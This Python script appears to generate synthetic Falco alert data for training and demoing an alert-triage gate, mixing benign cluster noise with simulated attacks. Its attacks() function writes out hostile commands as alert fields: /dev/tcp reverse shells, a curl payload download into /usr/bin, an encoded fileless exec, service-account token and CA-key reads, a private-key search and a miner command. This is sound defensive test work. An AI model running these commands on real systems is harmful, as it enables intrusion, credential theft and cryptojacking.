"""Builds the example alert files from the 17 real alerts in shared/data/falco:

- examples/falco-alerts.jsonl: the real alerts plus three variants (new namespace/pod/rule/time)
  that exercise escalation paths.
- examples/gate-background.jsonl: a seeded benign background (three days of the noise a
  cluster's Falco raises: shells in dev pods, operators calling the API server, audit noise from
  controllers, event drops) shaped on the real alerts: what `vigil train` learns as normal.
- examples/gate-replay.jsonl: what the demo replays through the gate: a few hours of the same
  kind of background (another seed) with attack patterns built from the real alerts woven in
  (a miner dropped in a payments pod, a reverse shell that steals the service-account token, a
  shell in the control plane, a binary written on a host, fileless execution, exec into etcd by
  an unknown user, a key search in CI) and two malformed lines for the dead-letter file.

Usage: python3 scripts/gen-examples.py [falco_samples.jsonl]   (deterministic: same output every run)
"""
import copy
import json
import random
import re
import sys
from datetime import datetime, timedelta, timezone

src = sys.argv[1] if len(sys.argv) > 1 else "../shared/data/falco/falco_samples.jsonl"
real = [json.loads(l) for l in open(src) if l.strip()]
shell = next(a for a in real if a["rule"] == "Terminal shell in container" and a["priority"] == "Critical")

def variant(base, **changes):
    a = copy.deepcopy(base)
    fields = changes.pop("fields", {})
    a.update(changes)
    a["output_fields"].update(fields)
    return a

extra = [
    # A shell in the control plane: always escalates to a senior analyst.
    variant(shell, priority="Notice", time="2026-11-20T09:00:01.000000000Z",
            output="09:00:01.000000000: Notice A shell was spawned in a container with an attached terminal (user=root kube-apiserver-cp1 (id=ab12cd34ef56) shell=sh parent=runc cmdline=sh -c id)",
            fields={"k8s.ns.name": "kube-system", "k8s.pod.name": "kube-apiserver-cp1", "container.id": "ab12cd34ef56", "proc.cmdline": "sh -c id", "evt.time": 1795165201000000000}),
    # A dropped binary executed in a payments pod: critical, proposes terminate, so an analyst decides.
    variant(shell, rule="Drop and execute new binary in container", priority="Critical", time="2026-11-20T09:05:00.000000000Z",
            tags=["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
            output="09:05:00.000000000: Critical Executing binary not part of base image (proc_exepath=/tmp/xmrig user=root payments-api-6d9f7 (id=9f8e7d6c5b4a) cmdline=/tmp/xmrig -o pool:3333)",
            fields={"k8s.ns.name": "payments", "k8s.pod.name": "payments-api-6d9f7", "container.id": "9f8e7d6c5b4a", "proc.cmdline": "/tmp/xmrig -o pool:3333", "proc.name": "xmrig", "evt.time": 1795165500000000000}),
    # A custom rule the analyser does not know: low confidence escalates.
    variant(shell, rule="Custom: unexpected outbound to mining pool", priority="Warning", time="2026-11-20T09:06:00.000000000Z", tags=["custom"],
            output="09:06:00.000000000: Warning Outbound connection to known mining pool (pod=web-frontend-7c9 ns=shop)",
            fields={"k8s.ns.name": "shop", "k8s.pod.name": "web-frontend-7c9", "container.id": "0a1b2c3d4e5f", "fd.name": "10.0.0.12:51234->198.51.100.7:3333", "evt.time": 1795165560000000000}),
]
with open("examples/falco-alerts.jsonl", "w") as out:
    for a in real + extra:
        out.write(json.dumps(a, separators=(",", ":")) + "\n")
print(f"{len(real)} real + {len(extra)} variants -> examples/falco-alerts.jsonl")


# ---------------------------------------------------------------------------------------------
# Benign background and attack patterns for the gate.

def by_rule(rule, pred=lambda a: True):
    return next(a for a in real if a["rule"] == rule and pred(a))

T_SHELL = by_rule("Terminal shell in container", lambda a: a.get("source") == "syscall")
T_API = by_rule("Contact K8S API Server From Container")
T_USER = by_rule("Disallowed K8s User")
T_EXEC = by_rule("Attach/Exec Pod")
T_SA = by_rule("K8s Serviceaccount Created")
T_DROP = by_rule("Falco internal: syscall event drop")
T_BINDIR = by_rule("Write below binary dir")

NODES = [f"pool-a-node-{i}" for i in range(1, 7)]
APPS = {  # namespace -> [(deployment, image)]
    "dev-team-a": [("orders-api", "ghcr.io/acme/orders-api"), ("orders-worker", "ghcr.io/acme/orders-worker")],
    "dev-team-b": [("catalog", "ghcr.io/acme/catalog"), ("search", "ghcr.io/acme/search")],
    "shop": [("web-frontend", "ghcr.io/acme/web-frontend"), ("checkout", "ghcr.io/acme/checkout")],
    "payments": [("payments-api", "ghcr.io/acme/payments-api")],
    "data": [("etl-runner", "ghcr.io/acme/etl"), ("postgres", "docker.io/library/postgres")],
    "ci": [("build-runner", "ghcr.io/acme/build-runner")],
    "default": [("debug-toolbox", "docker.io/library/alpine")],
}
OPERATORS = [  # pods that call the API server all day long
    ("monitoring", "prometheus-server", "quay.io/prometheus/prometheus", "prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus"),
    ("monitoring", "kube-state-metrics", "registry.k8s.io/kube-state-metrics/kube-state-metrics", "kube-state-metrics --port=8080 --telemetry-port=8081"),
    ("kube-system", "coredns", "registry.k8s.io/coredns/coredns", "/coredns -conf /etc/coredns/Corefile"),
    ("kube-system", "metrics-server", "registry.k8s.io/metrics-server/metrics-server", "/metrics-server --cert-dir=/tmp --secure-port=10250"),
    ("argocd", "argocd-application-controller", "quay.io/argoproj/argocd", "argocd-application-controller --status-processors 20"),
    ("ci", "build-runner", "ghcr.io/acme/build-runner", "kubectl apply -f /workspace/manifests/"),
]
DEV_CMDS = ["bash", "sh", "bash -l", "sh -c ls /app", "sh -c cat /app/config.yaml", "bash -c env", "sh -c ps aux",
            "sh -c df -h", "bash -c tail -n 100 /var/log/app.log", "sh -c curl -s localhost:8080/healthz"]
EXEC_CMDS = ["cat", "ls", "env", "sh", "bash", "ps", "top"]
ADMINS = ["kubernetes-admin", "alice@acme.example", "erin@acme.example", "carol@acme.example"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.pods = {}

    def hexid(self, n=12):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def pod(self, ns, deploy, replica=None):
        # A stable set of replicas per deployment, so per-pod windows see repeat visitors; an
        # attack names its replica, so all of its steps land on the same pod.
        key = (ns, deploy)
        if key not in self.pods:
            rs = self.hexid(10)
            self.pods[key] = [(f"{deploy}-{rs}-{self.hexid(5)}", self.hexid(), self.r.choice(NODES)) for _ in range(3)]
        return self.pods[key][replica] if replica is not None else self.r.choice(self.pods[key])

    def work_hours(self, day_start):
        # Office hours in UTC, some stragglers.
        hour = self.r.choices(range(24), weights=[1, 1, 1, 1, 1, 1, 2, 4, 8, 10, 10, 10, 9, 10, 10, 10, 9, 8, 5, 3, 2, 2, 1, 1])[0]
        return day_start + timedelta(hours=hour, seconds=self.r.uniform(0, 3600))

    def any_hour(self, day_start):
        return day_start + timedelta(seconds=self.r.uniform(0, 86400))


def stamp(a, t):
    """Sets time, evt.time and the HH:MM:SS prefix of output, as Falco writes them."""
    ns = int(t.timestamp()) * 1_000_000_000 + t.microsecond * 1000 + 123
    a["time"] = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}123Z"
    if "evt.time" in a["output_fields"]:
        a["output_fields"]["evt.time"] = ns
    prefix = t.strftime("%H:%M:%S.") + f"{t.microsecond:06d}123"
    if re.match(r"^\d{2}:\d{2}:\d{2}\.\d{9}", a["output"]):
        a["output"] = prefix + a["output"][18:]
    return a


def shell(g, t, ns, deploy, image, cmd, user="root", parent="runc", priority="Notice", replica=None):
    pod, cid, node = g.pod(ns, deploy, replica)
    a = copy.deepcopy(T_SHELL)
    a.update(priority=priority, hostname=node)
    shell_name = cmd.split()[0].split("/")[-1]
    a["output"] = (f"00:00:00.000000000: {priority} A shell was spawned in a container with an attached terminal (user={user} user_loginuid=-1 "
                   f"k8s.ns={ns} k8s.pod={pod} container={cid} shell={shell_name} parent={parent} cmdline={cmd} terminal=34816 container_id={cid} image={image})")
    a["output_fields"].update({"container.id": cid, "container.image.repository": image, "k8s.ns.name": ns, "k8s.pod.name": pod,
                               "proc.cmdline": cmd, "proc.name": shell_name, "proc.pname": parent, "user.name": user})
    return stamp(a, t)


def api_contact(g, t, ns, deploy, image, cmd, remote="10.96.0.1:443", proc=None, replica=None):
    pod, cid, node = g.pod(ns, deploy, replica)
    a = copy.deepcopy(T_API)
    a["hostname"] = node
    a["source"] = "syscall"
    conn = f"10.244.{g.r.randint(0, 15)}.{g.r.randint(2, 250)}:{g.r.randint(32768, 60999)}->{remote}"
    a["output"] = (f"00:00:00.000000000: Notice Unexpected connection to K8s API Server from container (command={cmd} k8s.ns={ns} k8s.pod={pod} "
                   f"container={cid} image={image}:v1 connection={conn})")
    a["output_fields"].update({"container.id": cid, "container.image.repository": image, "container.image.tag": "v1", "fd.name": conn,
                               "k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": cmd})
    if proc:
        a["output_fields"]["proc.name"] = proc
    return stamp(a, t)


def audit(template, t, fields, output, priority=None):
    a = copy.deepcopy(template)
    a["hostname"] = "pool-a-control-plane"
    a["output_fields"] = {"evt.time": 0, **fields}
    a["output"] = "00:00:00.000000000: " + output
    if priority:
        a["priority"] = priority
    return stamp(a, t)


def benign(g, day_start):
    kind = g.r.choices(["shell", "api", "user", "exec", "sa", "drop", "sshd", "packet"], weights=[24, 28, 20, 10, 5, 3, 5, 5])[0]
    if kind == "shell":
        ns = g.r.choice(["dev-team-a", "dev-team-b", "dev-team-a", "dev-team-b", "ci", "default", "data"])
        deploy, image = g.r.choice(APPS[ns])
        return shell(g, g.work_hours(day_start), ns, deploy, image, g.r.choice(DEV_CMDS), user=g.r.choice(["root", "root", "app"]),
                     parent=g.r.choice(["runc", "runc", "containerd-shim"]))
    if kind == "api":
        ns, deploy, image, cmd = g.r.choice(OPERATORS)
        return api_contact(g, g.any_hour(day_start), ns, deploy, image, cmd, proc=cmd.split()[0].split("/")[-1])
    if kind == "user":
        user, resource, verb = g.r.choice([("csi-cinder-controller", "volumeattachments", "patch"), ("yacht", "events", "patch"),
                                            ("yacht", "nodepools", "update"), ("cluster-autoscaler", "nodes", "patch")])
        name = f"{resource[:-1]}-{g.hexid(8)}"
        code = g.r.choice(["200", "200", "200", "403"])
        return audit(T_USER, g.any_hour(day_start),
                     {"ka.response.code": code, "ka.target.name": name, "ka.target.resource": resource, "ka.uri": f"/api/v1/{resource}/{name}",
                      "ka.user.name": user, "ka.verb": verb},
                     f"Warning K8s Operation performed by user not in allowed list of users (user={user} target={name}/{resource} verb={verb} resp={code})")
    if kind == "exec":
        ns = g.r.choice(["dev-team-a", "dev-team-b", "data", "shop"])
        deploy, _ = g.r.choice(APPS[ns])
        pod, _, _ = g.pod(ns, deploy)
        user, cmd = g.r.choice(ADMINS), g.r.choice(EXEC_CMDS)
        return audit(T_EXEC, g.work_hours(day_start),
                     {"ka.target.name": pod, "ka.target.namespace": ns, "ka.target.resource": "pods", "ka.target.subresource": "exec",
                      "ka.uri.param[command]": cmd, "ka.user.name": user},
                     f"Notice Attach/Exec to pod (user={user} pod={pod} resource=pods ns={ns} action=exec command={cmd})")
    if kind == "sa":
        ns = g.r.choice(["ci", "preview-" + g.hexid(4), "argocd"])
        name = g.r.choice(["default", "builder", "deployer"])
        return audit(T_SA, g.work_hours(day_start),
                     {"ka.auth.decision": "allow", "ka.auth.reason": "RBAC: allowed", "ka.response.code": "201", "ka.target.name": name,
                      "ka.target.namespace": ns, "ka.target.resource": "serviceaccounts", "ka.user.name": "system:serviceaccount:argocd:argocd-application-controller"},
                     f"Informational K8s Serviceaccount Created (user=system:serviceaccount:argocd:argocd-application-controller serviceaccount={name} ns={ns} resource=serviceaccounts)")
    if kind == "drop":
        a = copy.deepcopy(T_DROP)
        a["hostname"] = g.r.choice(NODES)
        n = g.r.randint(1000, 900000)
        a["output"] = f"Falco internal: syscall event drop. {n} system calls dropped in last second."
        a["output_fields"].update({"n_drops": str(n), "n_drops_buffer_total": str(n), "n_evts": str(n * 3)})
        return stamp(a, g.any_hour(day_start))
    if kind == "sshd":
        # A node's sshd reading /etc/shadow at login: noisy, known, benign.
        node = g.r.choice(NODES)
        a = {"hostname": node, "priority": "Warning", "rule": "Read sensitive file trusted after startup", "source": "syscall",
             "tags": ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
             "output": f"00:00:00.000000000: Warning Sensitive file opened for reading by trusted program after startup (file=/etc/shadow pcmdline=sshd -D gparent=systemd user=root command=sshd -D -R)",
             "output_fields": {"evt.time": 0, "fd.name": "/etc/shadow", "proc.cmdline": "sshd -D -R", "proc.name": "sshd", "proc.pname": "sshd",
                               "user.name": "root", "container.id": "host"}}
        return stamp(a, g.work_hours(day_start))
    # Network plugins open packet sockets on every node.
    node = g.r.choice(NODES)
    pod = f"cilium-{g.hexid(5)}"
    a = {"hostname": node, "priority": "Notice", "rule": "Packet socket created in container", "source": "syscall",
         "tags": ["maturity_stable", "container", "network", "mitre_credential_access", "T1557.002"],
         "output": f"00:00:00.000000000: Notice Packet socket was created in a container (k8s.ns=kube-system k8s.pod={pod} command=cilium-agent --config-dir=/tmp/cilium/config-map)",
         "output_fields": {"evt.time": 0, "container.id": g.hexid(), "container.image.repository": "quay.io/cilium/cilium", "k8s.ns.name": "kube-system",
                           "k8s.pod.name": pod, "proc.cmdline": "cilium-agent --config-dir=/tmp/cilium/config-map", "proc.name": "cilium-agent",
                           "proc.pname": "containerd-shim", "user.name": "root"}}
    return stamp(a, g.any_hour(day_start))


# The long tail every cluster has: rules that fire a few times a week for reasons someone once
# looked at and accepted (maintenance, upgrades, a debug session). Rare but benign, so the model
# learns that the far end of the rarity range is sparse rather than empty.
TAIL = [  # (rule, priority, namespace or None for the host, deployment, image, process, parent, user, cmdline, fd.name)
    ("Clear Log Activities", "Warning", None, None, None, "logrotate", "systemd", "root", "logrotate /etc/logrotate.conf", "/var/log/syslog"),
    ("Launch Privileged Container", "Informational", "kube-system", "cilium", "quay.io/cilium/cilium", "cilium-agent", "containerd-shim", "root", "cilium-agent --config-dir=/tmp/cilium/config-map", None),
    ("Run shell untrusted", "Notice", "data", "postgres", "docker.io/library/postgres", "sh", "postgres", "postgres", "sh -c pg_dump -Fc app > /backup/app.dump", None),
    ("System user interactive", "Informational", None, None, None, "su", "sudo", "root", "su - postgres", None),
    ("Terminal shell in container", "Critical", "default", "debug-toolbox", "docker.io/library/alpine", "sh", "runc", "root", "sh -c clear; (bash || ash || sh)", None),
    ("Read sensitive file untrusted", "Warning", "monitoring", "node-exporter", "quay.io/prometheus/node-exporter", "node_exporter", "containerd-shim", "root", "/bin/node_exporter --path.rootfs=/host", "/host/etc/shadow"),
    ("Write below etc", "Error", None, None, None, "dpkg", "apt-get", "root", "dpkg --configure -a", "/etc/ld.so.cache"),
    ("Write below binary dir", "Error", None, None, None, "dpkg", "apt-get", "root", "dpkg -i /var/cache/apt/archives/containerd_1.7.24_amd64.deb", "/usr/bin/containerd"),
    ("Modify binary dirs", "Error", None, None, None, "unattended-upgr", "systemd", "root", "/usr/bin/python3 /usr/bin/unattended-upgrade", "/usr/sbin/iptables"),
    ("Netcat Remote Code Execution in Container", "Warning", "dev-team-a", "orders-api", "ghcr.io/acme/orders-api", "nc", "bash", "root", "nc -zv orders-db 5432", "10.244.2.9:51812->10.244.5.3:5432"),
    ("PTRACE attached to process", "Warning", "dev-team-b", "catalog", "ghcr.io/acme/catalog", "gdb", "bash", "root", "gdb -p 1", None),
    ("Packet socket created in container", "Notice", "dev-team-b", "search", "ghcr.io/acme/search", "tcpdump", "bash", "root", "tcpdump -i eth0 -c 100 port 9200", None),
    ("Find AWS Credentials", "Warning", "ci", "build-runner", "ghcr.io/acme/build-runner", "grep", "bash", "runner", "grep -r aws_access_key_id /workspace/.aws", "/workspace/.aws/config"),
    ("Contact K8S API Server From Container", "Notice", "dev-team-a", "orders-api", "ghcr.io/acme/orders-api", "kubectl", "bash", "root", "kubectl get pods -n dev-team-a", "10.244.2.9:40122->10.96.0.1:443"),
    ("Terminal shell in container", "Notice", "payments", "payments-api", "ghcr.io/acme/payments-api", "bash", "runc", "root", "bash -c cat /app/VERSION", None),
    ("Terminal shell in container", "Notice", "kube-system", "coredns", "registry.k8s.io/coredns/coredns", "sh", "runc", "root", "sh -c cat /etc/resolv.conf", None),
    ("Execution from /dev/shm", "Warning", "data", "etl-runner", "ghcr.io/acme/etl", "python3", "sh", "app", "/dev/shm/venv/bin/python3 -m etl.run --date today", None),
    ("Debugfs Launched in Privileged Container", "Warning", "kube-system", "node-problem-detector", "registry.k8s.io/node-problem-detector/node-problem-detector", "debugfs", "sh", "root", "debugfs -R stats /dev/sda1", None),
    ("Outbound Connection to C2 Servers", "Warning", "shop", "checkout", "ghcr.io/acme/checkout", "node", "node", "app", "node /app/server.js", "10.244.1.40:53422->192.0.2.10:443"),
    ("Schedule Cron Jobs", "Notice", None, None, None, "crontab", "bash", "root", "crontab -l", "/var/spool/cron/crontabs/root"),
]


def tail_event(g, t, spec):
    rule, priority, ns, deploy, image, proc, parent, user, cmd, fd = spec
    if ns is None:
        a = {"hostname": g.r.choice(NODES), "priority": priority, "rule": rule, "source": "syscall", "tags": ["maturity_stable", "host"],
             "output": f"00:00:00.000000000: {priority} {rule} (user={user} command={cmd} file={fd})",
             "output_fields": {"evt.time": 0, "proc.cmdline": cmd, "proc.name": proc, "proc.pname": parent, "user.name": user, "container.id": "host"}}
        if fd:
            a["output_fields"]["fd.name"] = fd
        return stamp(a, t)
    a = shell(g, t, ns, deploy, image, cmd, user=user, parent=parent, priority=priority)
    a["rule"] = rule
    a["output_fields"]["proc.name"] = proc
    if fd:
        a["output_fields"]["fd.name"] = fd
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", rule)
    return a


def background(seed, days, per_day, start, tail=True):
    g = Gen(seed)
    out = []
    for d in range(days):
        day_start = start + timedelta(days=d)
        out += [benign(g, day_start) for _ in range(per_day)]
    if tail:
        for spec in TAIL:
            for _ in range(g.r.randint(1, 3)):
                out.append(tail_event(g, g.work_hours(start + timedelta(days=g.r.randrange(days))), spec))
    return g, out


def attacks(g, at):
    """Attack patterns shaped on the real alerts; each a short burst on one subject."""
    t = lambda minutes, seconds=0: at + timedelta(minutes=minutes, seconds=seconds)
    out = []
    # 1. A miner dropped and run in a payments pod (from the real Critical "Drop and execute" shape), then its pool connection.
    miner = "/tmp/.cache/kworkerd -o stratum+tcp://198.51.100.7:3333 -u 4AdUndXHHZ9pfQj27iMAjAbq -p x --donate-level=1"
    for i in range(3):
        a = shell(g, t(10, i * 12), "payments", "payments-api", "ghcr.io/acme/payments-api", miner, parent="sh", priority="Critical", replica=0)
        a["rule"] = "Drop and execute new binary in container"
        a["tags"] = ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"]
        a["output_fields"].update({"proc.name": "kworkerd", "proc.exepath": "/tmp/.cache/kworkerd", "proc.tty": 0})
        a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Executing binary not part of base image")
        out.append(a)
    a = api_contact(g, t(10, 50), "payments", "payments-api", "ghcr.io/acme/payments-api", miner, remote="198.51.100.7:3333", proc="kworkerd", replica=0)
    a.update(rule="Custom: unexpected outbound to mining pool", priority="Warning", tags=["custom"])
    a["output"] = a["output"].replace("Notice Unexpected connection to K8s API Server from container", "Warning Outbound connection to known mining pool")
    out.append(a)
    # 2. A reverse shell from the web frontend at night, then the service-account token read, then the API called with it.
    rs = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
    a = shell(g, t(-400), "shop", "web-frontend", "ghcr.io/acme/web-frontend", rs, user="www-data", parent="python3", replica=1)
    a.update(rule="Redirect STDOUT/STDIN to Network Connection in Container", tags=["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"])
    a["output_fields"].update({"fd.name": "10.244.3.17:40112->203.0.113.66:4444", "proc.name": "bash"})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Redirect stdout/stdin to network connection")
    out.append(a)
    a = shell(g, t(-399), "shop", "web-frontend", "ghcr.io/acme/web-frontend", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", user="www-data", parent="bash", priority="Warning", replica=1)
    a.update(rule="Read sensitive file untrusted", tags=["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"])
    a["output_fields"].update({"fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token", "proc.name": "cat"})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Sensitive file opened for reading by non-trusted program")
    out.append(a)
    out.append(api_contact(g, t(-398), "shop", "web-frontend", "ghcr.io/acme/web-frontend",
                           "curl -sk -H Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjRkN2Y https://10.96.0.1/api/v1/secrets", proc="curl", replica=1))
    # 3. A shell in the control plane at night, reading the cluster CA key.
    a = shell(g, t(-340), "kube-system", "kube-apiserver-cp1", "registry.k8s.io/kube-apiserver", "sh -c id; cat /etc/kubernetes/pki/ca.key")
    out.append(a)
    # 4. A binary written below /usr/bin on a node (the real "Write below binary dir" alert, on a fleet node).
    a = copy.deepcopy(T_BINDIR)
    a["hostname"] = "pool-a-node-4"
    a["output_fields"].update({"fd.name": "/usr/bin/kubelet-helper", "proc.cmdline": "curl -sSL http://198.51.100.23/k -o /usr/bin/kubelet-helper",
                               "proc.name": "curl", "proc.pname": "bash", "user.name": "root"})
    a["output"] = "00:00:00.000000000: Error File below a known binary directory opened for writing (user=root command=curl -sSL http://198.51.100.23/k -o /usr/bin/kubelet-helper file=/usr/bin/kubelet-helper)"
    out.append(stamp(a, t(-200)))
    # 5. Fileless execution of an encoded payload in the data namespace.
    payload = "python3 -c import base64,zlib;exec(zlib.decompress(base64.b64decode('eJyNkMFqwzAMhu95CuGTA6U0u4Vd2q6FMdhhb2BsRU3EEjuz5LK9fd1kGzQ5TSBhfv0/+mUX2h9')))"
    a = shell(g, t(35), "data", "etl-runner", "ghcr.io/acme/etl", payload, user="app", parent="python3", priority="Critical")
    a.update(rule="Fileless execution via memfd_create", tags=["maturity_stable", "host", "container", "process", "mitre_defense_evasion", "T1620"])
    a["output_fields"].update({"proc.name": "3", "proc.tty": 0})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Fileless execution via memfd_create")
    out.append(a)
    # 6. Exec into etcd by an identity nobody has seen.
    out.append(audit(T_EXEC, t(-420), {"ka.target.name": "etcd-cp1", "ka.target.namespace": "kube-system", "ka.target.resource": "pods",
                                        "ka.target.subresource": "exec", "ka.uri.param[command]": "sh", "ka.user.name": "system:serviceaccount:shop:web-frontend"},
                     "Notice Attach/Exec to pod (user=system:serviceaccount:shop:web-frontend pod=etcd-cp1 resource=pods ns=kube-system action=exec command=sh)"))
    # 7. A private-key hunt from a CI runner, in office hours.
    a = shell(g, t(70), "ci", "build-runner", "ghcr.io/acme/build-runner", "find / -name id_rsa -o -name *.pem -o -name credentials", parent="bash", priority="Warning")
    a.update(rule="Search Private Keys or Passwords", tags=["maturity_stable", "host", "container", "process", "filesystem", "mitre_credential_access", "T1552.001"])
    a["output_fields"].update({"proc.name": "find"})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Grep private keys or passwords activities found")
    out.append(a)
    # 8. A reverse shell from a catalog pod in office hours (an internal service, not customer-facing:
    #    the evidence is plain, so policy contains it without waiting for anyone), then its token read.
    rs = "bash -c bash -i >& /dev/tcp/203.0.113.80/4444 0>&1"
    a = shell(g, t(20), "dev-team-b", "catalog", "ghcr.io/acme/catalog", rs, user="app", parent="node", replica=2)
    a.update(rule="Redirect STDOUT/STDIN to Network Connection in Container", tags=["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"])
    a["output_fields"].update({"fd.name": "10.244.4.21:38614->203.0.113.80:4444", "proc.name": "bash"})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Redirect stdout/stdin to network connection")
    out.append(a)
    a = shell(g, t(20, 30), "dev-team-b", "catalog", "ghcr.io/acme/catalog", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", user="app", parent="bash", priority="Warning", replica=2)
    a.update(rule="Read sensitive file untrusted", tags=["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"])
    a["output_fields"].update({"fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token", "proc.name": "cat"})
    a["output"] = a["output"].replace("A shell was spawned in a container with an attached terminal", "Sensitive file opened for reading by non-trusted program")
    out.append(a)
    return out


def write(path, alerts, extra_lines=()):
    with open(path, "w") as f:
        for a in alerts:
            f.write(json.dumps(a, separators=(",", ":")) + "\n")
        for line in extra_lines:
            f.write(line + "\n")


START = datetime(2026, 11, 16, tzinfo=timezone.utc)
_, bg = background(seed=1, days=3, per_day=700, start=START)
bg.sort(key=lambda a: a["time"])
write("examples/gate-background.jsonl", bg)
print(f"{len(bg)} benign alerts -> examples/gate-background.jsonl")

g, replay = background(seed=2, days=1, per_day=1200, start=START + timedelta(days=4), tail=False)
replay = [a for a in replay if "T01:00" <= a["time"][10:16] <= "T12:00"]
attack = attacks(g, START + timedelta(days=4, hours=9))
mixed = sorted(replay + attack, key=lambda a: a["time"])
malformed = [
    json.dumps(T_SHELL, separators=(",", ":"))[:180],                               # cut mid-message
    json.dumps({k: v for k, v in T_API.items() if k != "rule"}, separators=(",", ":")),  # no rule
]
write("examples/gate-replay.jsonl", mixed, malformed)
print(f"{len(replay)} benign + {len(attack)} attack alerts + {len(malformed)} malformed lines -> examples/gate-replay.jsonl")
